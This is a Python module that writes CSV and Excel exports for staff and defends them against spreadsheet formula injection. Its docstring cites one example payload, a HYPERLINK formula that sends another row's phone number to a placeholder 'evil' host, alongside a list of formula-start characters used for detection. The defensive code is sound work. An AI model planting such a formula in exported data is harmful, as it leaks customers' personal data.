"""The one writer of spreadsheet exports (CSV streamed, Excel in memory): every export goes
through it, so no text cell of ours can become a formula in the program staff open it with.

A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or
starts one) for Excel, LibreOffice and Google Sheets: `=HYPERLINK("https://evil/?"&D2,"查看")`
in an order's subject would send other rows' phone numbers away when clicked (OWASP "CSV
Injection"). In CSV such a cell gets a leading `'`, which the spreadsheet shows as text; in
Excel it is written as a string cell, which is never evaluated, so its text stays exact.
Numbers (Decimal, int) and dates are written as values, negative ones included.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime, time
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Written to Excel as values; anything else (text, lazy translations) as a string cell.
_XLSX_VALUES = (bool, int, float, Decimal, date, datetime, time)


def is_formula_text(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """What the CSV writer gets for one value: formula-like text behind a `'`, Decimals as
    their exact text, None as an empty cell, the rest as it is."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return str(value)
    value = value if isinstance(value, bool | int | float | str) else str(value)
    return f"'{value}" if is_formula_text(value) else value


class _Echo:
    """A file that hands back what is written: csv.writer then returns each row's text."""

    def write(self, value: str) -> str:
        return value


def csv_chunks(headers: Sequence[object], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """CSV text, a row at a time (for StreamingHttpResponse), with a BOM first so Excel reads
    it as UTF-8."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    yield writer.writerow([csv_cell(str(header)) for header in headers])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def xlsx_bytes(
    sheet_title: str, headers: Sequence[object], rows: Iterable[Sequence[object]]
) -> bytes:
    """An .xlsx file of one sheet. Decimal cells stay exact numbers; every text cell is a
    string cell (openpyxl would otherwise store text starting with `=` as a formula)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(str(sheet_title))  # openpyxl takes str, not lazy text
    sheet.append([_xlsx_cell(sheet, str(header)) for header in headers])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_cell(sheet, value: object) -> object:
    if value is None or isinstance(value, _XLSX_VALUES):
        return value
    cell = WriteOnlyCell(sheet, str(value))
    cell.data_type = "s"  # a string, even when the text starts like a formula
    return cell
